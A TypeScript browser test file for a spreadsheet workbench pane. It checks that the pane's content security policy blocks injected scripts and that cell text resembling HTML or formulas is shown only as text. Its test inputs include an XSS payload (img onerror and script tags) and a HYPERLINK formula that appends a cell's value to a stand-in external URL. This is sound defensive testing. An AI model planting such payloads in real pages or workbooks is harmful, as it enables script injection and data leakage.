/** What a workbook and its pages may not do, whatever stands in the cells. */
import { expect, it } from "vitest";
import {
  cell,
  checkWhereAsked,
  expectSoon,
  expectText,
  openWorkbench,
  paneOf,
  takeFaults,
  typeInto,
} from "./workbenchPage";

const MARKUP = "<img src=x onerror=document.title='run'><script>document.title='run'</script>";
const FORMULA_TEXT = '\'=HYPERLINK("https://example.invalid/?"&B2,"open")';

it("runs no script that is put into the pane's page, and the browser says so", async (test) => {
  const page = await openWorkbench(test);
  const pane = await paneOf(page);
  await pane.locator("h1").waitFor();
  const isRun = await pane.evaluate(async () => {
    const blocked = new Promise((said) => document.addEventListener("securitypolicyviolation", said, { once: true }));
    const script = document.createElement("script");
    script.textContent = "window.isInjectedScriptRun = true";
    document.body.append(script);
    await blocked;
    return "isInjectedScriptRun" in window;
  });
  expect(isRun).toBe(false);
  expect(takeFaults().join()).toMatch(/script-src/);
});

it("shows cell text that looks like markup or a formula as text, in the pane and on the written sheets", async (test) => {
  const page = await openWorkbench(test);
  const pane = page.frameLocator("aside iframe");
  await page.getByRole("tab", { name: "Costs", exact: true }).click();
  // The words of two lines of cost, which flags and results quote.
  await typeInto(page, "B5", MARKUP);
  await typeInto(page, "B6", FORMULA_TEXT);
  await page.getByRole("tab", { name: "Decision", exact: true }).click();
  await typeInto(page, "B3", MARKUP);
  await expectSoon(async () => {
    await checkWhereAsked(pane);
    return pane.locator("h1").innerText();
  }).toBe(`PCD 484: ${MARKUP}`);
  expect(await pane.locator("img[src=x]").count()).toBe(0);
  await pane.getByRole("button", { name: "Preview", exact: true }).click();
  await pane.getByRole("button", { name: "Write", exact: true }).click();
  await expectText(pane.getByText("Written and read back"), /./);
  for (const name of ["Model results", "Model flags"]) {
    await page.getByRole("tab", { name }).click();
    await expectText(cell(page, "A1"), /./);
    expect(await page.locator("img[src=x]").count()).toBe(0);
  }
  expect(await page.title()).toMatch(/ - Workbench$/);
});
